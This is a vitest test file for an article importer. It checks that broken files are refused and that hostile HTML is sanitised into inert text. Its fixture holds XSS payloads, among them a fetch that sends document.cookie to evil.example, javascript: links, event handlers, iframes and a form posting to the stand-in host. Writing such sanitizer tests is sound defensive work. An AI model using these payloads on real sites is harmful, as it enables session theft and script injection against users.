/**
 * Bad files, one table: each is refused with a message a person can act on and leaves the
 * notebook folder byte for byte as it was; hostile HTML that does hold an article is imported
 * with nothing that could run or load.
 */
import { describe, expect, it } from 'vitest';
import { valueOf } from '../../../test-support/in-process-api';
import { activeContentIn, emptyNotebook, fileArg } from '../test-support/import-fixture';
import { minimalPdf } from '../test-support/minimal-pdf';

const SCRIPT_LADEN = `<!doctype html><html><head><title>Harbour report</title>
<script>fetch('https://evil.example/steal?c=' + document.cookie)</script>
<link rel="stylesheet" href="https://evil.example/s.css"><style>body{background:url(https://evil.example/p.png)}</style></head>
<body onload="alert(1)"><article><h1>Harbour report</h1>
<p onclick="alert(2)">The harbour reopened on Monday after <a href="javascript:alert(3)">three weeks</a> of repairs,
officials said, and the <a href="https://example.org/ferries">ferry timetable</a> returns to normal.</p>
<img src="https://evil.example/pixel.gif" onerror="alert(4)" alt="pixel">
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/x.swf"></object>
<form action="https://evil.example/post"><input name="q" value="secret"><button>Send</button></form>
<svg><script>alert(5)</script></svg><math><mi xlink:href="javascript:alert(6)">x</mi></math>
<p style="background:url(https://evil.example/bg.png)">Dock workers said the new cranes lift twice the load of the old ones, and the port expects
record traffic before the end of the year.</p></article></body></html>`;

const randomBytes = (n: number, seed = 7) => {
  const bytes = new Uint8Array(n);
  let x = seed;
  for (let i = 0; i < n; i++) bytes[i] = (x = (x * 1103515245 + 12345) >>> 0) >>> 24;
  return bytes;
};

const REFUSED: [string, () => Parameters<typeof fileArg>, RegExp][] = [
  ['an HTML file over its limit', () => ['html', 'huge.html', new Uint8Array(25_000_000)], /too large: 25 MB; the limit for HTML files is 20 MB/],
  ['a PDF over its limit', () => ['pdf', 'huge.pdf', new Uint8Array(40_000_001)], /too large: 40 MB; the limit for PDF files is 40 MB/],
  ['binary garbage named .html', () => ['html', 'photo.html', randomBytes(50_000)], /not an article: it holds binary data/],
  ['an empty .html file', () => ['html', 'empty.html', new Uint8Array(0)], /^This file is empty\.$/],
  ['an empty .txt file', () => ['text', 'empty.txt', new Uint8Array(0)], /^This file is empty\.$/],
  ['a .txt file of blank lines', () => ['text', 'blank.txt', '\n \n\t\n'], /not an article: it has no readable text/],
  ['invalid UTF-8 in a .txt file', () => ['text', 'latin.txt', Buffer.from([0x43, 0x61, 0x66, 0xe9, 0x20, 0x6e, 0x6f, 0x69, 0x72])], /unreadable encoding/],
  ['invalid UTF-8 in an .html file without a charset', () => ['html', 'latin.html', Buffer.concat([Buffer.from('<p>Caf'), Buffer.from([0xe9]), Buffer.from(' noir</p>')])], /unreadable encoding/],
  ['HTML that is nothing but script', () => ['html', 'app.html', '<html><body><script>document.write("hello")</script><noscript>Enable JavaScript</noscript></body></html>'], /not an article: it has no readable text/],
  ['a PDF with no text layer', () => ['pdf', 'scan.pdf', minimalPdf({ pages: [[], []] })], /This PDF has no text layer \(it may be a scan\); Marginalia cannot read scanned pages\./],
  ['a text file named .pdf', () => ['pdf', 'notes.pdf', 'These are notes, not a PDF.'], /not a readable PDF/],
  ['a truncated PDF', () => ['pdf', 'cut.pdf', minimalPdf({ pages: [[{ text: 'Hello', y: 700 }]] }).slice(0, 60)], /not a readable PDF/],
];

describe('hostile and broken files', () => {
  it.each(REFUSED)('refuses %s with a clear message and changes nothing', async (_name, build, message) => {
    const { api, notebook, snapshot } = await emptyNotebook();
    const before = await snapshot();
    const answer = await api.importArticle(fileArg(...build()));
    expect(answer).toEqual({ ok: false, error: { code: 'invalid_argument', message: expect.stringMatching(message) } });
    expect(await snapshot()).toEqual(before);
    await notebook.close();
  });

  it('imports a script-laden page as inert text: no script, handler, javascript: link, frame, form or remote resource', async () => {
    expect(activeContentIn(SCRIPT_LADEN).length).toBeGreaterThan(10);
    const { api, notebook } = await emptyNotebook();
    const meta = await valueOf(api.importArticle(fileArg('html', 'harbour.html', SCRIPT_LADEN)));
    const article = await valueOf(api.getArticle({ id: meta.id }));
    expect(article.title).toBe('Harbour report');
    expect(activeContentIn(article.original)).toEqual([]);
    expect(activeContentIn(article.html)).toEqual([]);
    expect(article.original).not.toMatch(/evil\.example|secret|alert/);
    expect(article.text).toContain('The harbour reopened on Monday after three weeks of repairs');
    expect(article.text).toContain('Dock workers said the new cranes');
    expect(article.original).toContain('<a href="https://example.org/ferries">ferry timetable</a>');
    expect(article.doc.blocks).toContainEqual({
      type: 'paragraph',
      children: expect.arrayContaining([{ type: 'link', href: 'https://example.org/ferries', children: [{ type: 'text', text: 'ferry timetable' }] }]),
    });
    await notebook.close();
  });

  it('imports the good files of a batch when one in the middle is bad', async () => {
    const { api, notebook } = await emptyNotebook();
    const answers = [];
    for (const arg of [
      fileArg('text', 'one.txt', 'The first file has words.'),
      fileArg('html', 'bad.html', randomBytes(4000)),
      fileArg('markdown', 'three.md', '# Third\n\nThe third file has words too.'),
    ])
      answers.push(await api.importArticle(arg));
    expect(answers.map((answer) => answer.ok)).toEqual([true, false, true]);
    expect((await valueOf(api.listArticles({}))).map((article) => article.fileName).sort()).toEqual(['one.txt', 'three.md']);
    await notebook.close();
  });
});
